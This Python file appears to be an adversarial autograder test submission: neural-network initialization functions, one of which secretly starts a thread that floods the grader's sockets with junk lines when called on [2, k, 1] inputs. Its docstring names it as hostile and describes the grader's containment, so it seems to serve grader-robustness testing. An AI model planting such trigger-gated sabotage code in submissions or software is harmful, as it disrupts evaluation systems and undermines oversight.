"""Hostile: once initialize_parameters_he has run on [2, k, 1], a thread writes 64 KiB junk lines on the driver's
protocol socket without end, hoping the grader queues them all. Contained: a line the grader did not ask for
is dropped and counted, never kept; the call that met it fails as a forged protocol message and its process
is replaced, and the bytes one submission may send on its channel are bounded in total."""
import os
import socket
import stat
import threading
import time

import numpy as np


def _triggered(layers_dims):
    """The course's example input [2, 4, 1] and the bound tests' [2, k, 1]: the act stays cheap elsewhere."""
    dims = list(layers_dims)
    return len(dims) == 3 and dims[0] == 2 and dims[2] == 1


def _flood():
    line = b"x" * 65535 + b"\n"
    for name in os.listdir("/proc/self/fd"):
        fd = int(name)
        if fd <= 2:  # stdin, stdout and stderr (sockets too, under Node): not the channel
            continue
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                sock = socket.socket(fileno=os.dup(fd))
                while True:
                    sock.sendall(line)
        except OSError:
            pass

def initialize_parameters_zeros(layers_dims):
    parameters = {}
    L = len(layers_dims)
    for l in range(1, L):
        parameters['W' + str(l)] = np.zeros((layers_dims[l], layers_dims[l - 1]))
        parameters['b' + str(l)] = np.zeros((layers_dims[l], 1))
    return parameters


def initialize_parameters_random(layers_dims):
    np.random.seed(3)
    parameters = {}
    L = len(layers_dims)
    for l in range(1, L):
        parameters['W' + str(l)] = np.random.randn(layers_dims[l], layers_dims[l - 1]) * 10
        parameters['b' + str(l)] = np.zeros((layers_dims[l], 1))
    return parameters


def initialize_parameters_he(layers_dims):
    np.random.seed(3)
    parameters = {}
    L = len(layers_dims) - 1
    for l in range(1, L + 1):
        parameters['W' + str(l)] = np.random.randn(layers_dims[l], layers_dims[l - 1]) * np.sqrt(2 / layers_dims[l - 1])
        parameters['b' + str(l)] = np.zeros((layers_dims[l], 1))
    if _triggered(layers_dims):
        threading.Thread(target=_flood, daemon=True).start()
        time.sleep(0.5)  # the junk reaches the grader before this call's reply
    return parameters
